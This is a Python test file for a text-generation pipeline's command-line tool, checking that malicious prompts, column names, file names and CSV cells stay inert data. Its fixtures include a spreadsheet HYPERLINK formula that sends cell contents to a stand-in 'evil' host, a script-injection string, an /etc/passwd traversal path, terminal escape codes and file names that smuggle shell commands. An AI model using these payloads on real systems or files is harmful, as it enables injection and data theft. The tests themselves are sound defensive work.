"""Input that means harm: it comes out as data, or as an error of its own row, and nothing else."""

import csv
import pathlib

import pyarrow as pa

from pipeline.cli import main
from tests import jobs

MARKUP = "<script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'


def strings(values: list[bytes]) -> pa.Array:
    """A string column of any bytes, as a careless writer makes one."""
    binary = pa.array(values, pa.binary())
    return pa.Array.from_buffers(pa.string(), len(values), binary.buffers())


def test_texts_that_are_no_plain_text(generate):
    hostile = {
        "nul": b"a\0b",
        "control": b"\x1b[2J\x1b]0;owned\x07\r\n\x7f",
        "bidi": "‮abc‬".encode(),
        "half a pair": b"a\xed\xa0\x80b",
        "no utf-8": b"\xff\xfe\x00",
        "path": b"../../../../etc/passwd",
        "markup": MARKUP.encode(),
        "formula": FORMULA.encode(),
        "many marks": b"e" + "́".encode() * 60,
    }
    good = [b"def f(x):"] * 3
    prompts = [*good, *hostile.values()]
    names = ["", "", "", *hostile]
    table = pa.table({"prompt": strings(prompts), "note": names})
    outcome = generate("--max-tokens", 2, "--temperature", 0, table=table)
    assert outcome.code == 3
    assert len(outcome.rows) == len(prompts)
    errors = {row["note"]: row["error_code"] for row in outcome.rows if row["error_code"]}
    assert errors == {"half a pair": "prompt_type", "no utf-8": "prompt_type"}
    assert {row["text"] for row in outcome.rows[:3]} == {outcome.rows[0]["text"]}
    assert "\x1b[2J" not in outcome.out + outcome.err
    assert "\x1b]0;" not in outcome.out + outcome.err


def test_prompts_of_ten_megabytes(generate):
    large = [b"x" * (10 << 20), b"a b " * (10 << 18), b"\n" * (10 << 20)]
    outcome = generate("--max-tokens", 2, table={"prompt": [b"def f(x):", *large, b"import os"]})
    assert outcome.code == 3
    found = [row["error_code"] for row in outcome.rows]
    assert found == [None, *["context_length_exceeded"] * 3, None]
    assert all(len(row["error_message"]) < 500 for row in outcome.rows[1:4])


def test_a_hundred_thousand_stop_strings(generate):
    """They work, among them the one that occurs; others' rows are as ever."""
    prompts = {"prompt": ["def f(x):", "def f(x):"]}
    told = generate("--max-tokens", 12, "--temperature", 0, table=prompts).rows[0]["text"]
    at = len(told) // 2
    some = [f"never {i}" for i in range(100_000)]
    stops = [[*some[:50_000], told[at : at + 2], *some[50_000:]], None]
    flags = ("--max-tokens", 12, "--temperature", 0, "--overwrite")
    outcome = generate(*flags, table={**prompts, "stop": stops})
    assert outcome.code == 0
    stopped, whole = outcome.rows
    assert whole["text"] == told
    assert stopped["finish_reason"] == "stop"
    assert stopped["text"] == told[: told.index(told[at : at + 2])]


NAMES = [
    "part-000000-000000000000-000000000000.parquet",
    "-rf.parquet",
    "$(touch owned).parquet",
    "%2e%2e%2fup.parquet",
    "new\nline.parquet",
    f"{MARKUP.replace('/', ':')}.parquet",
]


def test_names_of_files_and_columns(command, tmp_path):
    """Files lie where they should, names are data, and the report shows them as text."""
    before = {path for path in tmp_path.parent.rglob("*") if tmp_path not in path.parents}
    for name in NAMES:
        columns = {"prompt": ["def f(x):"], MARKUP: [FORMULA], "../../up": ["a"], "=1+1": ["b"]}
        jobs.write(tmp_path / "in" / name, columns)
    outcome = command("generate", "--report", "--max-tokens", 2)
    assert outcome.code == 0
    assert len(outcome.parts) == len(NAMES)
    assert all(row[MARKUP] == FORMULA and row["../../up"] == "a" for row in outcome.rows)
    assert {p for p in tmp_path.parent.rglob("*") if tmp_path not in p.parents} == before
    assert not pathlib.Path("owned").exists()
    assert outcome.err == ""
    page = (outcome.folder / "_report.html").read_text()
    assert "<script>document" not in page
    assert main(["inspect", str(outcome.folder)]) == 0


def test_formulas_for_a_spreadsheet(generate, tmp_path):
    """As they are by default, since programs read CSV; as mere text where a person asks for it."""
    cells = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "plain", "a=1"]
    table = {"prompt": ["def f(x):"] * len(cells), "=cell": cells, "number": range(-3, 4)}
    outcome = generate("--max-tokens", 2, table=table)
    to = tmp_path / "out.csv"
    export = ["export", str(outcome.folder), "--to", str(to), "--format", "csv"]
    assert main(export) == 0
    with open(to, newline="") as file:
        assert [row["=cell"] for row in csv.DictReader(file)] == cells
    assert main([*export, "--spreadsheet", "--overwrite"]) == 0
    with open(to, newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["'=cell"] for row in rows] == [f"'{cell}" for cell in cells[:5]] + cells[5:]
    assert [row["number"] for row in rows] == [str(n) for n in range(-3, 4)]
    assert main([*export[:-1], "jsonl", "--spreadsheet"]) == 2
